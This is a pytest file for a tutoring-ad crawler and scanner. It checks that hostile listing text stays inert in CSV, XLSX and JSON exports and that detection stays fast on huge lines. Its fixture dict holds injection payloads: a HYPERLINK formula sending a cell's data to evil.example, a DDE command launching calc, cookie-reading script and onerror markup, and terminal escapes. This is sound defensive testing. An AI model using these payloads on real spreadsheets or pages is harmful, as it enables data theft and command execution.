"""Hostile listings: formulas, markup, surrogates, non-characters, controls, bidi marks, huge lines — inert everywhere.

Each goes through the real Listing (where text is cleaned and cut once), store and export
(crawler/leads/store.py, crawler/leads/export.py) and the real ``tutorwatch scan``: the CSV cell
is the cleaned text escaped by safe_cell, the XLSX cell is a text cell (never a formula or an
error value), the JSON lines parse, and the detectors' work on a megabyte-long line is bounded by
a CPU-seconds limit (no wall-clock timing).
"""

from __future__ import annotations

import csv
import io
import json
import re
import resource
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from crawler.extraction.listing import MAX_ANALYSED_CHARS, Listing, cut_body, cut_field
from crawler.leads.columns import FORMULA_STARTS, LEAD_COLUMNS, NUMBERS, safe_cell
from crawler.leads.export import export_store
from crawler.leads.store import LeadStore
from detectors import analyze
from detectors.clean_text import UNWRITABLE, clean_text
from tests.conftest import TUTORWATCH, read_jsonl

HOSTILE = {
    "HYPERLINK formula": '=HYPERLINK("http://evil.example/?q="&A1,"点我领取")',
    "DDE command": "+cmd|' /C calc'!A0",
    "at-function": "@SUM(A1:A9)",
    "leading tab": "\t=1+1",
    "leading CR": "\r=1+1",
    "arithmetic": "-2+3",
    "error value": "#N/A",
    "script": "<script>alert(document.cookie)</script>一对一数学",
    "markup": '<img src=x onerror="alert(1)"><b>初中</b>数学',
    "lone surrogates": "数\ud800学一对一\udfff",
    "RTL override": "\u202e一对一数学\u202c老师",
    "zero-width": "一\u200b对\u200d一\ufeff数学",
    "control characters": "a\x00b\x07c\x1b[31m红",
    "non-characters": "一对一\ufffe数学\uffff\U0010ffff辅导\ufdd0",
    "C1 controls and terminal escapes": "\x85\x9b2J\x1b]0;owned\x07\x1b[2J初中",
    "very long line": "一对一数学，" * 20_000,
}
VIOLATION = "初中数学一对一，老师上门"
TEXT_OR_NUMBER = ("s", "inlineStr", "n")  # never "f" (formula) or "e" (error value)


def hostile_listing(number: int, text: str) -> Listing:
    """A listing that is a lead, with the hostile text in every field the leads files show."""
    listing = Listing(
        f"http://127.0.0.1:1/p/{number}", "", "s", "tutoring", text, f"{text} {VIOLATION}", publisher=text
    )
    return replace(listing, contact=text, city=text, district=text, price=text, posted_at=text)


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every hostile listing stored and exported, with the hostile text as the analyst's note too."""
    root = tmp_path_factory.mktemp("hostile")
    with LeadStore(root / "leads.db") as store:
        for number, text in enumerate(HOSTILE.values()):
            listing = hostile_listing(number, text)
            assert store.upsert(listing, analyze(listing.title, listing.body, listing.platform)) == "new"
            store.conn.execute("UPDATE leads SET notes = ? WHERE url = ?", (listing.title, listing.url))
        export_store(store, root / "reports")
    return root


def by_url(rows: list[dict]) -> dict[str, dict]:
    return {row["url"].removeprefix("'"): row for row in rows}


@pytest.mark.parametrize(("name", "text"), HOSTILE.items(), ids=HOSTILE.keys())
def test_csv_cells_are_the_text_escaped(exported: Path, name: str, text: str) -> None:
    data = (exported / "reports" / "leads.csv").read_bytes().decode("utf-8-sig")  # no newline translation: CR stays
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    number = list(HOSTILE).index(name)
    row = by_url(rows)[f"http://127.0.0.1:1/p/{number}"]
    listing = hostile_listing(number, text)
    for column in ("title", "publisher", "contact", "city", "district", "price", "posted_at", "notes"):
        stored = listing.title if column == "notes" else getattr(listing, column)
        assert not UNWRITABLE.search(stored), column
        assert row[column] == safe_cell(stored), column
    for column in LEAD_COLUMNS:
        if column not in NUMBERS:
            assert not row[column].startswith(FORMULA_STARTS), f"{column} would be evaluated: {row[column]!r}"


DATE_COLUMNS = ("首次发现", "最近发现", "研判时间", "有变化时间")


def test_xlsx_cells_are_text_never_formulas_or_errors(exported: Path) -> None:
    book = load_workbook(exported / "reports" / "leads.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                ours = cell.data_type == "d" and sheet.cell(1, cell.column).value in DATE_COLUMNS  # our dates
                assert cell.data_type in TEXT_OR_NUMBER or ours, f"{sheet.title}!{cell.coordinate} is {cell.data_type}"
    sheet = book["线索"]
    header = [cell.value for cell in sheet[1]]
    titles = {row[header.index("链接")].value: row[header.index("标题")].value for row in sheet.iter_rows(min_row=2)}
    for number, text in enumerate(HOSTILE.values()):
        shown = hostile_listing(number, text).title  # cleaned where it entered: the workbook holds it as stored
        assert (titles[f"http://127.0.0.1:1/p/{number}"] or "") == shown


def test_scan_json_of_hostile_listings_is_valid_json_with_exact_spans(tmp_path: Path) -> None:
    docs = [{"id": name, "title": text, "text": f"{text}\n{VIOLATION}"} for name, text in HOSTILE.items()]
    docs.append({"id": "\ud800 surrogate id", "title": "一对一", "text": "数学"})
    stdin = "\n".join(json.dumps(doc) for doc in docs) + "\n"  # ASCII JSON: "\ud800" as an escape
    result = subprocess.run(
        [TUTORWATCH, "scan", "--format", "jsonl"], input=stdin, capture_output=True, text=True, timeout=300
    )
    assert result.returncode == 0, result.stderr
    out = read_jsonl(result.stdout)
    assert [record["id"] for record in out[:-1]] == list(HOSTILE)
    for doc, record in zip(docs, out, strict=True):
        assert record["flagged"], doc["id"]
        full = clean_text(doc["title"] + "\n" + doc["text"])
        for finding in record["findings"]:
            assert full[finding["start"] : finding["end"]] == finding["text"]
    page = tmp_path / "ad.html"
    page.write_text(f"<html><body><article><h1>{HOSTILE['RTL override']}</h1>{HOSTILE['script']}</article>")
    html = subprocess.run([TUTORWATCH, "scan", str(page), "--json"], capture_output=True, text=True, timeout=300)
    assert html.returncode == 0 and read_jsonl(html.stdout)[0]["flagged"]


MEGABYTE = 1_000_000
AD = "周末初中数学一对一，老师上门，电话13800001234，微信abc_123，岳阳某某教育培训学校，保证提分！"
EVASIONS = "jia教 ydy sx 1v1 VX:abc_1234 佳教\u200b辅导 <b>数</b>学 \u202e一 对 一\u202c 🔥"


def limit_cpu(seconds: int) -> None:
    resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))


ANALYSE_STDIN = """
import json, sys
from detectors import analyze
for line in sys.stdin:
    doc = json.loads(line)
    print(json.dumps({"id": doc["id"], "flagged": analyze(doc["title"], doc["text"]).flagged}))
"""


def test_megabyte_lines_cost_bounded_work() -> None:
    """Two 1 MB single-line listings (dense key terms; evasions of every kind) under a 90 CPU-second cap.

    The detectors themselves must stay linear, though the crawl and ``scan`` analyse at most
    MAX_ANALYSED_CHARS of a listing: the library is run on the whole megabyte. The cap is generous
    (about eight times what both take, model included: 11 s on 2026-12-07); quadratic work in any
    pass (the homophone pass once took about an hour on the first; finding the line around each piece
    of initials, 7 s more) is killed by SIGXCPU. ``scan`` cuts the same lines
    and says so on stderr.
    """
    docs = [
        {"id": "ads", "title": "", "text": (AD * (MEGABYTE // len(AD) + 1))[:MEGABYTE]},
        {"id": "evasions", "title": "", "text": (EVASIONS * (MEGABYTE // len(EVASIONS) + 1))[:MEGABYTE]},
    ]
    stdin = "\n".join(json.dumps(doc, ensure_ascii=False) for doc in docs) + "\n"
    result = subprocess.run(
        [sys.executable, "-c", ANALYSE_STDIN],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=900,
        preexec_fn=lambda: limit_cpu(90),
    )
    assert result.returncode == 0, f"exit {result.returncode} (-24: CPU limit hit) {result.stderr[-500:]}"
    out = read_jsonl(result.stdout)
    assert [record["id"] for record in out] == ["ads", "evasions"]
    assert all(record["flagged"] for record in out)
    scanned = subprocess.run(
        [TUTORWATCH, "scan", "--format", "jsonl"], input=stdin, capture_output=True, text=True, timeout=300
    )
    assert scanned.returncode == 0 and all(record["flagged"] for record in read_jsonl(scanned.stdout))
    warning = re.search(r"ads: only the first ([\d,]+) of 1,000,000 characters analysed", scanned.stderr)
    assert warning and int(warning.group(1).replace(",", "")) < MAX_ANALYSED_CHARS


def test_a_long_body_is_cut_then_cleaned_with_the_same_result_as_cleaning_it_whole() -> None:
    """Listing cuts before cleaning (a 4 M-character body is never cleaned whole); since clean_text keeps the
    length, the stored body is what cleaning everything first would give, hostile characters across the cut too."""
    body = ("一对一\ufffe\x1b[2J\ud800\r" * 20_000)[: MAX_ANALYSED_CHARS * 2]
    title = "\x07标题\uffff" * 1_000
    listing = Listing(url="http://127.0.0.1/1", fetched_url="", site="s", platform="tutoring", title=title, body=body)
    assert listing.body == cut_body(clean_text(body))
    assert listing.title == cut_field(clean_text(title))
    assert not UNWRITABLE.search(listing.body + listing.title)
